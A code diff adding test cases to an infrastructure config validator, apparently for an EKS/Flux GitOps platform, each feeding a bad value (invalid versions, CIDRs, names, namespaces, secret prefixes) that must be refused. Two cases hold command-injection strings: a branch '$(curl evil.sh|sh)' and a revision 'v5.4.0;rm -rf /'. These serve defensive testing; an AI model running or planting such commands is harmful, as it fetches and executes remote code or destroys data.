@@ -641,6 +641,293 @@ const CASES: BadInput[] = [
         },
         key: `${P}gitopsRepository.url`,
     },
+    // Values as the receiving system checks them (issue 14). Each limit's source is cited at its rule
+    // in stacks/config/ and in "guardrails: each limit as its source states it" below.
+    {
+        name: "Kubernetes version past EKS extended support",
+        stack: "staging",
+        edit: (c) => {
+            cluster(c).kubernetesVersion = "1.31";
+        },
+        key: `${P}cluster.kubernetesVersion`,
+    },
+    {
+        name: "Kubernetes version EKS does not offer yet",
+        stack: "staging",
+        edit: (c) => {
+            cluster(c).kubernetesVersion = "1.40";
+        },
+        key: `${P}cluster.kubernetesVersion`,
+    },
+    {
+        name: "loopback VPC",
+        stack: "staging",
+        edit: (c) => {
+            cluster(c).network.vpcCidr = "127.0.0.0/16";
+        },
+        key: `${P}cluster.network.vpcCidr`,
+    },
+    {
+        name: "multicast VPC",
+        stack: "staging",
+        edit: (c) => {
+            cluster(c).network.vpcCidr = "224.0.0.0/16";
+        },
+        key: `${P}cluster.network.vpcCidr`,
+    },
+    {
+        name: "link-local VPC",
+        stack: "staging",
+        edit: (c) => {
+            cluster(c).network.vpcCidr = "169.254.0.0/16";
+        },
+        key: `${P}cluster.network.vpcCidr`,
+    },
+    {
+        name: "VPC smaller than /28",
+        stack: "staging",
+        edit: (c) => {
+            cluster(c).network.vpcCidr = "10.20.0.0/29";
+            cluster(c).network.publicSubnetCidrs = ["10.20.0.0/29", "10.20.0.0/29"];
+            cluster(c).network.privateSubnetCidrs = ["10.20.0.0/29", "10.20.0.0/29"];
+        },
+        key: `${P}cluster.network.vpcCidr`,
+    },
+    {
+        name: "subnet smaller than /28",
+        stack: "staging",
+        edit: (c) => {
+            cluster(c).network.publicSubnetCidrs = ["10.20.0.0/29", "10.20.1.0/24"];
+            cluster(c).network.privateSubnetCidrs = ["10.20.128.0/18", "10.20.192.0/18"];
+        },
+        key: `${P}cluster.network.publicSubnetCidrs[0]`,
+    },
+    {
+        name: "GitHub owner with a leading hyphen",
+        stack: "staging",
+        edit: (c) => {
+            c["github:owner"] = "-acme";
+        },
+        key: "github:owner",
+    },
+    {
+        name: "GitHub owner with a double hyphen",
+        stack: "production",
+        edit: (c) => {
+            c["github:owner"] = "acme--platform";
+        },
+        key: "github:owner",
+    },
+    {
+        name: 'repository named ".."',
+        stack: "staging",
+        edit: (c) => {
+            c[`${P}gitopsRepository`].name = "..";
+        },
+        key: `${P}gitopsRepository.name`,
+    },
+    {
+        name: 'repository name ending in ".git"',
+        stack: "staging",
+        edit: (c) => {
+            c[`${P}gitopsRepository`].name = "platform.git";
+        },
+        key: `${P}gitopsRepository.name`,
+    },
+    {
+        name: "branch HEAD",
+        stack: "staging",
+        edit: (c) => {
+            c[`${P}gitopsRepository`].branch = "HEAD";
+        },
+        key: `${P}gitopsRepository.branch`,
+    },
+    {
+        name: 'branch with ".."',
+        stack: "staging",
+        edit: (c) => {
+            c[`${P}gitopsRepository`].branch = "main..dev";
+        },
+        key: `${P}gitopsRepository.branch`,
+    },
+    {
+        name: "branch with shell syntax",
+        stack: "local",
+        edit: (c) => {
+            c[`${P}gitopsRepository`].branch = "$(curl evil.sh|sh)";
+        },
+        key: `${P}gitopsRepository.branch`,
+    },
+    {
+        name: "app revision HEAD outside production",
+        stack: "staging",
+        edit: (c) => {
+            apps(c)[0].source.revision = "HEAD";
+        },
+        key: `${P}apps[0].source.revision`,
+    },
+    {
+        name: "app revision with a command",
+        stack: "staging",
+        edit: (c) => {
+            apps(c)[1].source.revision = "v5.4.0;rm -rf /";
+        },
+        key: `${P}apps[1].source.revision`,
+    },
+    {
+        name: 'app revision with a component starting with "."',
+        stack: "local",
+        edit: (c) => {
+            apps(c)[0].source.revision = "feature/.hidden";
+        },
+        key: `${P}apps[0].source.revision`,
+    },
+    {
+        name: "app path leaving the repository",
+        stack: "staging",
+        edit: (c) => {
+            apps(c)[0].source.path = "deploy/../../..";
+        },
+        key: `${P}apps[0].source.path`,
+    },
+    {
+        name: "absolute app path",
+        stack: "local",
+        edit: (c) => {
+            apps(c)[0].source.path = "/etc/kubernetes";
+        },
+        key: `${P}apps[0].source.path`,
+    },
+    {
+        name: "app URL without a repository",
+        stack: "staging",
+        edit: (c) => {
+            apps(c)[2].source.url = "https://github.com/";
+        },
+        key: `${P}apps[2].source.url`,
+    },
+    {
+        name: "GitHub app URL naming only an owner",
+        stack: "local",
+        edit: (c) => {
+            apps(c)[0].source.url = "https://github.com/stefanprodan";
+        },
+        key: `${P}apps[0].source.url`,
+    },
+    {
+        name: "app repository that GitHub refuses",
+        stack: "staging",
+        edit: (c) => {
+            apps(c)[0].source.repository = "payments api";
+        },
+        key: `${P}apps[0].source.repository`,
+    },
+    {
+        name: "empty Flux component list",
+        stack: "local",
+        edit: (c) => {
+            c[`${P}engine`].components = [];
+        },
+        key: `${P}engine.components`,
+    },
+    {
+        name: "Flux components without kustomize-controller",
+        stack: "local",
+        edit: (c) => {
+            c[`${P}engine`].components = ["source-controller", "helm-controller"];
+        },
+        key: `${P}engine.components`,
+    },
+    {
+        name: "Flux helm app without helm-controller",
+        stack: "local",
+        edit: (c) => {
+            c[`${P}engine`].components = ["source-controller", "kustomize-controller"];
+            apps(c)[0].source.type = "helm";
+        },
+        key: `${P}engine.components`,
+    },
+    {
+        name: "node label key Kubernetes refuses",
+        stack: "production",
+        edit: (c) => {
+            cluster(c).nodeGroups.system.labels["-workload"] = "system";
+        },
+        key: `${P}cluster.nodeGroups.system.labels.-workload`,
+    },
+    {
+        name: "node label value Kubernetes refuses",
+        stack: "production",
+        edit: (c) => {
+            cluster(c).nodeGroups.system.labels.workload = "system critical";
+        },
+        key: `${P}cluster.nodeGroups.system.labels.workload`,
+    },
+    {
+        name: "monitoring selector label key with two slashes",
+        stack: "production",
+        edit: (c) => {
+            c[`${P}monitoring`].selectorLabels = { "a/b/release": "kube-prometheus-stack" };
+        },
+        key: `${P}monitoring.selectorLabels.a/b/release`,
+    },
+    {
+        name: "engine in kube-system",
+        stack: "staging",
+        edit: (c) => {
+            c[`${P}engine`].namespace = "kube-system";
+        },
+        key: `${P}engine.namespace`,
+    },
+    {
+        name: "engine in the default namespace",
+        stack: "local",
+        edit: (c) => {
+            c[`${P}engine`].namespace = "default";
+        },
+        key: `${P}engine.namespace`,
+    },
+    {
+        name: "secrets operator in the engine's namespace",
+        stack: "staging",
+        edit: (c) => {
+            c[`${P}secrets`].namespace = "argocd";
+        },
+        key: `${P}secrets.namespace`,
+    },
+    // secrets.prefix: the operator reads <prefix>/* (components/secrets/policy.ts).
+    {
+        name: "staging prefix reaching production's secrets",
+        stack: "staging",
+        edit: (c) => {
+            c[`${P}secrets`].prefix = "gitops-platform/production";
+        },
+        key: `${P}secrets.prefix`,
+    },
+    {
+        name: "prefix that is every stack's parent",
+        stack: "production",
+        edit: (c) => {
+            c[`${P}secrets`].prefix = "gitops-platform";
+        },
+        key: `${P}secrets.prefix`,
+    },
+    {
+        name: "production prefix under staging's",
+        stack: "production",
+        edit: (c) => {
+            c[`${P}secrets`].prefix = "gitops-platform/staging/production";
+        },
+        key: `${P}secrets.prefix`,
+    },
+    {
+        name: "wildcard prefix",
+        stack: "staging",
+        edit: (c) => {
+            c[`${P}secrets`].prefix = "gitops-platform/*";
+        },
+        key: `${P}secrets.prefix`,
+    },
 ];
 
 describe("guardrails: bad input is refused with the key named and nothing declared", () => {
